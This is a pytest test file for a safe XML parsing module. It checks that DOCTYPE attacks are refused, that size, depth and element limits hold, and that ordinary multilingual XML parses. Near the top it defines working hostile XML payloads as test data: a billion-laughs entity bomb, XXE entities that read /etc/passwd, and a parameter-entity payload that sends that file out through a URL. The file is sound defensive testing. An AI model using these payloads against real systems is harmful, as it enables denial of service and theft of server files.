"""fieldapp.xmlsafe: every classic XML attack is refused quickly, ordinary XML parses."""

from __future__ import annotations

import time
from collections.abc import Iterator

import pytest

from fieldapp.xmlsafe import (
    XmlDoctypeForbidden,
    XmlError,
    XmlTooDeep,
    XmlTooLarge,
    XmlTooManyElements,
    parse_xml,
)

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""

XXE_FILE = b"""<?xml version="1.0"?>
<!DOCTYPE data [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<data><name>&xxe;</name></data>"""

XXE_HTTP = b"""<?xml version="1.0"?>
<!DOCTYPE data [<!ENTITY xxe SYSTEM "http://127.0.0.1:9/secret">]>
<data><name>&xxe;</name></data>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE data SYSTEM "http://127.0.0.1:9/evil.dtd">
<data><name>x</name></data>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE data [
  <!ENTITY % file SYSTEM "file:///etc/passwd">
  <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM 'http://127.0.0.1:9/?x=%file;'>">
  %eval;
  %exfil;
]>
<data/>"""


@pytest.fixture(autouse=True)
def _quick() -> Iterator[None]:
    """Every case here must finish fast: a hang or an expansion would show up as time."""
    start = time.monotonic()
    yield
    assert time.monotonic() - start < 2.0


@pytest.mark.parametrize(
    "document",
    [BILLION_LAUGHS, XXE_FILE, XXE_HTTP, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "xxe-file", "xxe-http", "external-dtd", "parameter-entities"],
)
def test_any_doctype_is_refused(document: bytes) -> None:
    with pytest.raises(XmlDoctypeForbidden) as info:
        parse_xml(document)
    assert info.value.code == "xml.doctype_forbidden"
    assert info.value.http_status == 400
    assert "DOCTYPE" in info.value.message


def test_doctype_in_utf16_is_refused_after_parsing() -> None:
    # The byte scan cannot see a UTF-16 DOCTYPE; the parsed document's docinfo must.
    document = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'
    with pytest.raises(XmlDoctypeForbidden):
        parse_xml(document.encode("utf-16"))


def test_doctype_given_as_text_is_refused() -> None:
    with pytest.raises(XmlDoctypeForbidden):
        parse_xml(XXE_FILE.decode())


def test_deep_nesting_is_refused() -> None:
    document = "<a>" * 65 + "</a>" * 65
    with pytest.raises(XmlTooDeep) as info:
        parse_xml(document)
    assert info.value.code == "xml.too_deep"
    assert "64" in info.value.message


def test_nesting_at_the_limit_is_accepted() -> None:
    root = parse_xml("<a>" * 64 + "</a>" * 64)
    assert root.tag == "a"


def test_very_deep_nesting_fails_fast() -> None:
    # Deeper than libxml2's own limit (256): the same clear error, not a crash or a hang.
    with pytest.raises(XmlTooDeep):
        parse_xml("<a>" * 100_000 + "</a>" * 100_000)


def test_oversize_is_refused_before_parsing() -> None:
    document = b"<a>" + b"x" * 200 + b"</a>"
    with pytest.raises(XmlTooLarge) as info:
        parse_xml(document, max_bytes=100)
    assert info.value.code == "xml.too_large"
    assert info.value.http_status == 413
    assert isinstance(info.value, XmlError)


def test_element_count_is_bounded() -> None:
    with pytest.raises(XmlTooManyElements) as info:
        parse_xml(b"<a>" + b"<b/>" * 100 + b"</a>", max_elements=100)  # 101 with the root
    assert info.value.code == "xml.too_many_elements"
    assert info.value.http_status == 413
    assert isinstance(info.value, XmlTooLarge)
    assert info.value.details == {"max_elements": 100}
    assert len(parse_xml(b"<a>" + b"<b/>" * 99 + b"</a>", max_elements=100)) == 99


def test_millions_of_elements_are_refused_while_parsing() -> None:
    # 2,000,000 empty elements in 8 MB: refused after the first chunks, not after a full parse
    # (the module's time bound applies; tests/openrosa/test_slow_bodies.py times it over HTTP)
    document = b"<a>" + b"<b/>" * 2_000_000 + b"</a>"
    with pytest.raises(XmlTooManyElements):
        parse_xml(document, max_elements=50_000)


def test_utf32_with_and_without_byte_order_mark() -> None:
    document = '<?xml version="1.0" encoding="UTF-32"?><d>ж</d>'
    for encoding in ("utf-32", "utf-32-le", "utf-32-be"):
        assert parse_xml(document.encode(encoding)).text == "ж"


def test_depth_is_checked_while_parsing_across_chunks() -> None:
    # the nesting starts after more than one parser chunk of ordinary content
    document = "<a>" + "<b/>" * 40_000 + "<c>" * 70 + "</c>" * 70 + "</a>"
    with pytest.raises(XmlTooDeep):
        parse_xml(document)


def test_oversize_text_counts_utf8_bytes() -> None:
    with pytest.raises(XmlTooLarge):
        parse_xml("<a>" + "ж" * 60 + "</a>", max_bytes=100)  # 60 chars, 120 bytes


@pytest.mark.parametrize(
    ("document", "line", "column"),
    [
        (b"<data>\n  <name>x</nam>\n</data>", 2, 16),
        (b"<data><a></data>", 1, 17),
        (b"<data>", 1, 7),
        (b"just text", 1, 1),
    ],
)
def test_malformed_xml_names_line_and_column(document: bytes, line: int, column: int) -> None:
    with pytest.raises(XmlError) as info:
        parse_xml(document)
    assert info.value.code == "xml.invalid"
    assert info.value.message.startswith("The XML is not well-formed: ")
    assert f"(line {line}, column {column})" in info.value.message


@pytest.mark.parametrize("document", [b"", b"   \n", "", "\ufeff", b"\xef\xbb\xbf"])
def test_empty_document(document: bytes | str) -> None:
    with pytest.raises(XmlError, match="empty"):
        parse_xml(document)


def test_utf8_cyrillic_and_arabic() -> None:
    document = '<data><name>Айгерим</name><note dir="rtl">مرحبا بكم</note></data>'
    root = parse_xml(document.encode("utf-8"))
    assert root.findtext("name") == "Айгерим"
    assert root.findtext("note") == "مرحبا بكم"


def test_utf8_bom_in_bytes_and_text() -> None:
    assert parse_xml(b"\xef\xbb\xbf<data><a>\xd0\xb6</a></data>").findtext("a") == "ж"
    assert parse_xml("\ufeff<data><a>ж</a></data>").findtext("a") == "ж"


def test_text_with_encoding_declaration() -> None:
    root = parse_xml('<?xml version="1.0" encoding="ISO-8859-1"?><data>Привет</data>')
    assert root.text == "Привет"


def test_declared_latin1_bytes() -> None:
    root = parse_xml('<?xml version="1.0" encoding="ISO-8859-1"?><d>é</d>'.encode("latin-1"))
    assert root.text == "é"


def test_comments_and_processing_instructions_are_dropped() -> None:
    root = parse_xml(b"<data><!-- note --><?pi x?><a>1</a></data>")
    assert [child.tag for child in root] == ["a"]


def test_namespaces_are_kept() -> None:
    root = parse_xml(b'<data xmlns:orx="http://openrosa.org/xforms"><orx:meta/></data>')
    assert root[0].tag == "{http://openrosa.org/xforms}meta"
